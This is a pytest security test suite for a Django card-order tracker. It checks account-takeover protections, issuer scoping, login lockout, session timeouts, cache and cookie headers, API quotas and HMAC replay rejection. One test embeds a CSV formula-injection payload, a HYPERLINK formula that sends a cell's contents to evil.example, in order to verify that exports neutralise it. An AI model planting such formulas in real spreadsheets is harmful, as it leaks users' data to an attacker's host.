"""Tried as an attacker would: account takeover, other issuers' cards, CSV injection, password
guessing, idle sessions, cache headers, D1 quota, forged admin actions, replayed signatures."""

import csv
import hashlib
import hmac
import io
import time
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from tests.conftest import ISSUER, NOTIFY_URL, make_operation, make_order, staff
from tests.sandbox_fixtures import card
from tracker import login, roles
from tracker.models import CardOrder, ExportAudit, LookupAudit

pytestmark = pytest.mark.django_db

OTHER = "OTHERISSU1"
HX = {"HX-Request": "true"}


@pytest.fixture
def administrator(client):
    user = staff(roles.ADMINISTRATORS, "admin-amy")
    client.force_login(user)
    return user


def _password_url(user: User) -> str:
    return reverse("admin:auth_user_password_change", args=[user.pk])


def _set_password(client: Client, user: User, password: str = "Taken-0ver-pw!"):
    return client.post(_password_url(user), {"password1": password, "password2": password})


# --- Account takeover ------------------------------------------------------------------------


def test_an_administrator_cannot_set_a_superusers_password(client, administrator):
    root = User.objects.create_superuser("root", password="root-original-pw")
    assert client.get(_password_url(root)).status_code == 403
    assert _set_password(client, root).status_code == 403
    root.refresh_from_db()
    assert root.check_password("root-original-pw")
    response = _login(Client(), "root", "Taken-0ver-pw!")
    assert response.status_code == 200 and "_auth_user_id" not in response.client.session


def test_an_administrator_cannot_change_or_deactivate_a_superuser(client, administrator):
    root = User.objects.create_superuser("root", password="root-original-pw")
    url = reverse("admin:auth_user_change", args=[root.pk])
    page = client.get(url)
    assert page.status_code == 200  # shown read-only
    assert b'name="is_active"' not in page.content
    response = client.post(url, {"username": "root", "is_active": "", "is_staff": "on"})
    assert response.status_code == 403
    root.refresh_from_db()
    assert root.is_active and root.is_superuser


def test_an_administrator_cannot_take_over_another_administrator(client, administrator):
    peer = staff(roles.ADMINISTRATORS, "admin-bob")
    peer.set_password("peer-original-pw")
    peer.save()
    assert _set_password(client, peer).status_code == 403
    response = client.post(
        reverse("admin:auth_user_change", args=[peer.pk]), {"username": "bob2", "is_active": ""}
    )
    assert response.status_code == 403
    peer.refresh_from_db()
    assert (peer.username, peer.is_active) == ("admin-bob", True)
    assert peer.check_password("peer-original-pw")


def test_an_administrator_still_manages_agents_and_their_own_account(client, administrator):
    agent = staff(roles.AGENTS, "agent-al")
    assert _set_password(client, agent).status_code == 302
    agent.refresh_from_db()
    assert agent.check_password("Taken-0ver-pw!")
    assert client.get(_password_url(administrator)).status_code == 200


def test_a_superuser_may_change_an_administrator(client):
    peer = staff(roles.ADMINISTRATORS, "admin-bob")
    client.force_login(User.objects.create_superuser("root"))
    assert _set_password(client, peer).status_code == 302
    peer.refresh_from_db()
    assert peer.check_password("Taken-0ver-pw!")


# --- Issuer scope ------------------------------------------------------------------------------


def test_a_card_of_an_issuer_not_served_is_not_found_and_d1_is_never_asked(agent_client, d1):
    d1.seed({**card("crd-foreign-1", stage="CARD_SHIPPED"), "issuerId": OTHER})
    before = len(d1.requests())
    for response in (
        agent_client.post(f"/cards/{OTHER}/crd-foreign-1/live/"),
        agent_client.post(f"/cards/{OTHER}/crd-foreign-1/live/", headers=HX),
        agent_client.get(f"/cards/{OTHER}/crd-foreign-1/"),
        agent_client.post(
            reverse("tracker:d1_lookup"), {"card_id": "crd-foreign-1", "issuer_id": OTHER}
        ),
    ):
        assert response.status_code == 404
    assert len(d1.requests()) == before
    assert not CardOrder.objects.exists()


def test_a_foreign_order_already_stored_is_not_shown_either(agent_client):
    make_order(issuer_id=OTHER, card_id="crd-foreign-2")
    assert agent_client.get(f"/cards/{OTHER}/crd-foreign-2/").status_code == 404


def test_live_refresh_refuses_an_issuer_not_served_before_asking_d1(d1):
    from tracker import live

    before = len(d1.requests())
    with pytest.raises(live.NotServed):
        live.refresh(OTHER, "crd-foreign-3")
    assert len(d1.requests()) == before


# --- The queue's CSV export ---------------------------------------------------------------------


def _hour_ago():
    return timezone.now() - timedelta(hours=1)


def _export(client: Client, query: str = "show=all") -> list[list[str]]:
    response = client.get(reverse("tracker:queue_export") + "?" + query)
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_exported_inert(client, start):
    client.force_login(staff(roles.SUPERVISORS))
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    make_order(
        card_id="crd-csv-1",
        production_site=formula,
        carrier=f"{start}1+1",
        attention_since=_hour_ago(),
    )
    rows = _export(client)
    row = rows[1]
    header = rows[0]
    assert row[header.index("production_site")] == "'" + formula
    assert row[header.index("carrier")] == f"'{start}1+1"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_every_export_is_audited_with_who_the_filter_and_the_row_count(client):
    supervisor = staff(roles.SUPERVISORS)
    client.force_login(supervisor)
    for n in range(3):
        make_order(card_id=f"crd-exp-{n}", stage="CARD_PROD_ONGOING", attention_since=_hour_ago())
    rows = _export(client, "show=all&stage=CARD_PROD_ONGOING")
    audit = ExportAudit.objects.get()
    assert (audit.user, audit.username, audit.rows) == (supervisor, "supervisors", len(rows) - 1)
    assert "stage=CARD_PROD_ONGOING" in audit.filters and "show=all" in audit.filters


# --- Password guessing -------------------------------------------------------------------------


def _login(client: Client, username: str, password: str, url: str = "/accounts/login/"):
    return client.post(url, {"username": username, "password": password})


def test_a_username_is_locked_out_after_n_failures_until_an_operator_unlocks_it(settings, agent):
    limit = settings.AXES_FAILURE_LIMIT
    client = Client()
    for _ in range(limit - 1):
        assert _login(client, "agent-test", "wrong").status_code == 200
    locked = _login(client, "agent-test", "wrong")
    assert locked.status_code == 429
    assert b"Too many failed sign-ins" in locked.content
    # Locked: even the right password is refused, from any address.
    other = Client(REMOTE_ADDR="10.9.8.7")
    assert _login(other, "agent-test", "agent-test-pw").status_code == 429
    assert "_auth_user_id" not in other.session
    call_command("axes_reset_username", "agent-test", stdout=io.StringIO())
    assert _login(other, "agent-test", "agent-test-pw").status_code == 302
    assert other.session["_auth_user_id"] == str(agent.pk)


def test_an_address_guessing_many_usernames_is_locked_out_too(settings, agent):
    client = Client(REMOTE_ADDR="10.1.2.3")
    for n in range(settings.AXES_FAILURE_LIMIT):
        _login(client, f"guess-{n}", "wrong")
    assert _login(client, "agent-test", "agent-test-pw").status_code == 429
    assert _login(Client(REMOTE_ADDR="10.1.2.4"), "agent-test", "agent-test-pw").status_code == 302
    call_command("axes_reset_ip", "10.1.2.3", stdout=io.StringIO())
    assert _login(client, "agent-test", "agent-test-pw").status_code == 302


def test_the_admin_login_form_is_throttled_as_well(settings):
    User.objects.create_superuser("root", password="root-pw-1")
    client = Client()
    for _ in range(settings.AXES_FAILURE_LIMIT):
        _login(client, "root", "wrong", "/admin/login/")
    assert _login(client, "root", "root-pw-1", "/admin/login/").status_code == 429


def test_a_forwarded_for_header_does_not_escape_the_address_lockout(settings, agent):
    client = Client(REMOTE_ADDR="10.5.5.5")
    for n in range(settings.AXES_FAILURE_LIMIT):
        client.post(
            "/accounts/login/",
            {"username": f"guess-{n}", "password": "x"},
            headers={"X-Forwarded-For": f"192.0.2.{n}"},
        )
    response = client.post(
        "/accounts/login/",
        {"username": "agent-test", "password": "agent-test-pw"},
        headers={"X-Forwarded-For": "192.0.2.200"},
    )
    assert response.status_code == 429


# --- Sessions ----------------------------------------------------------------------------------


def _last_activity(client: Client, seconds_ago: float) -> None:
    session = client.session
    session[login.LAST_ACTIVITY] = time.time() - seconds_ago
    session.save()


def test_a_session_idle_for_longer_than_the_timeout_is_signed_out(agent_client, settings):
    settings.TRACKER_IDLE_TIMEOUT = 1800
    _last_activity(agent_client, 1799)
    assert agent_client.get("/").status_code == 200
    _last_activity(agent_client, 1801)
    response = agent_client.get("/")
    assert response.status_code == 302 and response.url.startswith("/accounts/login/")
    assert "_auth_user_id" not in agent_client.session


def test_the_card_pages_polls_do_not_keep_an_idle_session_alive(agent_client, settings):
    settings.TRACKER_IDLE_TIMEOUT = 1800
    order = make_order(card_id="crd-idle-1", stage="CARD_PROD_ONGOING")
    _last_activity(agent_client, 1000)
    before = agent_client.session[login.LAST_ACTIVITY]
    agent_client.get(
        f"/cards/{ISSUER}/{order.card_id}/",
        headers={**HX, "HX-Target": "timeline", login.BACKGROUND_HEADER: "true"},
    )
    assert agent_client.session[login.LAST_ACTIVITY] == before
    agent_client.get("/")
    assert agent_client.session[login.LAST_ACTIVITY] > before


def test_the_card_page_marks_its_polls_as_background(agent_client):
    order = make_order(card_id="crd-idle-2", stage="CARD_PROD_ONGOING")
    page = agent_client.get(f"/cards/{ISSUER}/{order.card_id}/")
    assert b'hx-headers=\'{"X-Tracker-Background": "true"}\'' in page.content


# --- Headers and cookies -----------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/", "/stuck/", "/admin/"])
def test_staff_pages_are_never_kept_in_a_cache(client, url):
    client.force_login(User.objects.create_superuser("root"))
    cache_control = client.get(url)["Cache-Control"]
    assert "private" in cache_control and "no-store" in cache_control


def test_the_language_and_csrf_cookies_are_out_of_reach_of_scripts(client):
    response = client.post(reverse("set_language"), {"language": "ja"})
    cookie = response.cookies["django_language"]
    assert cookie["samesite"] == "Lax" and cookie["httponly"]
    page = Client().get("/accounts/login/")
    assert page.cookies["csrftoken"]["httponly"]


# --- D1's quota --------------------------------------------------------------------------------


def test_one_account_cannot_use_up_d1_for_everyone(agent_client, d1, settings):
    settings.TRACKER_LIVE_PER_MINUTE = 3
    d1.seed(card("crd-quota-1", stage="CARD_PROD_ONGOING"))
    url = f"/cards/{ISSUER}/crd-quota-1/live/"
    answers = [agent_client.post(url, headers=HX).status_code for _ in range(5)]
    assert answers == [200, 200, 200, 429, 429]
    asked = [r for r in d1.requests() if "crd-quota-1" in r.get("path", "")]
    assert len(asked) == 3
    refused = agent_client.post(url, headers=HX)
    assert int(refused["Retry-After"]) >= 1
    lookup = agent_client.post(
        reverse("tracker:d1_lookup"), {"card_id": "crd-quota-2", "issuer_id": ISSUER}
    )
    assert lookup.status_code == 429
    # Someone else still can.
    other = Client()
    other.force_login(staff(roles.AGENTS, "agent-2"))
    assert other.post(url, headers=HX).status_code == 200
    assert LookupAudit.objects.filter(username="agent-test").count() == 3


# --- Forged admin actions ----------------------------------------------------------------------


@pytest.mark.parametrize("selected", ["abc", "1.5", "99999999999999999999999", "١٢"])
def test_an_admin_action_with_a_selection_that_is_not_ids_answers_a_message(client, selected):
    client.force_login(User.objects.create_superuser("root"))
    response = client.post(
        reverse("admin:tracker_cardorder_changelist"),
        {"action": "resync", "_selected_action": [selected], "index": "0"},
        follow=True,
    )
    assert response.status_code == 200
    assert "The selection holds something that is not an id." in response.content.decode()


# --- HMAC notifications with a timestamp --------------------------------------------------------


@pytest.fixture
def hmac_mode(settings):
    settings.D1_NOTIFY_AUTH = "hmac"
    settings.D1_NOTIFY_HMAC_SECRETS = ["hmac-secret"]
    settings.D1_NOTIFY_HMAC_TOLERANCE = 300


def _signed_post(client: Client, body: bytes, stamp: str | None, signed: bytes | None = None):
    message = signed if signed is not None else (f"{stamp}.".encode() + body if stamp else body)
    signature = hmac.new(b"hmac-secret", message, hashlib.sha256).hexdigest()
    headers = {"X-D1-Signature": signature}
    if stamp is not None:
        headers["X-D1-Signature-Timestamp"] = stamp
    return client.post(NOTIFY_URL, body, content_type="application/json", headers=headers)


def _body() -> bytes:
    import json

    return json.dumps({"operations": [make_operation(cardId="crd-hmac-1")]}).encode()


def test_a_fresh_timestamped_signature_is_accepted(client, hmac_mode):
    assert _signed_post(client, _body(), str(int(time.time()))).status_code == 204


def test_a_stale_timestamped_signature_is_refused(client, hmac_mode):
    stale = str(int(time.time()) - 301)
    assert _signed_post(client, _body(), stale).status_code == 401
    future = str(int(time.time()) + 301)
    assert _signed_post(client, _body(), future).status_code == 401


def test_a_timestamp_the_signature_does_not_cover_is_refused(client, hmac_mode):
    body = _body()
    # Signed without the timestamp, sent with a fresh one: a replay trying to look new.
    assert _signed_post(client, body, str(int(time.time())), signed=body).status_code == 401
    assert _signed_post(client, body, "yesterday").status_code == 401


def test_without_a_timestamp_a_body_signature_still_works(client, hmac_mode):
    assert _signed_post(client, _body(), None).status_code == 204


# --- Production settings -----------------------------------------------------------------------


def test_the_deploy_check_is_silent_with_sso_on_and_passwords_off():
    from tests.test_commands import deploy_check

    result = deploy_check(
        OIDC_RP_CLIENT_ID="tracker",
        OIDC_RP_CLIENT_SECRET="from-the-secret-store",
        OIDC_OP_AUTHORIZATION_ENDPOINT="https://idp.example.com/authorize",
        OIDC_OP_TOKEN_ENDPOINT="https://idp.example.com/token",
        OIDC_OP_JWKS_ENDPOINT="https://idp.example.com/jwks",
        TRACKER_OIDC_GROUP_MAP="tracker-agents=Support agents,tracker-admins=Administrators",
        TRACKER_PASSWORD_LOGIN="0",
        TRACKER_PROXY_COUNT="1",
    )
    assert result.returncode == 0, result.stderr
    assert "no issues" in result.stdout


def test_group_map_naming_no_role_stops_start_up():
    from tests.test_commands import _manage

    result = _manage(
        "check",
        DJANGO_DEBUG="1",
        OIDC_RP_CLIENT_ID="tracker",
        OIDC_RP_CLIENT_SECRET="s",
        OIDC_OP_AUTHORIZATION_ENDPOINT="https://idp.example.com/authorize",
        OIDC_OP_TOKEN_ENDPOINT="https://idp.example.com/token",
        OIDC_OP_JWKS_ENDPOINT="https://idp.example.com/jwks",
        TRACKER_OIDC_GROUP_MAP="everyone=superuser",
    )
    assert result.returncode == 1
    assert "TRACKER_OIDC_GROUP_MAP" in result.stderr
    assert "Traceback" not in result.stderr


def test_passwords_cannot_be_switched_off_without_sso():
    from tests.test_commands import _manage

    result = _manage("check", DJANGO_DEBUG="1", TRACKER_PASSWORD_LOGIN="0")
    assert result.returncode == 1
    assert "TRACKER_PASSWORD_LOGIN" in result.stderr


def test_the_roles_groups_still_exist():
    assert set(Group.objects.values_list("name", flat=True)) >= {
        roles.AGENTS,
        roles.SUPERVISORS,
        roles.ADMINISTRATORS,
    }
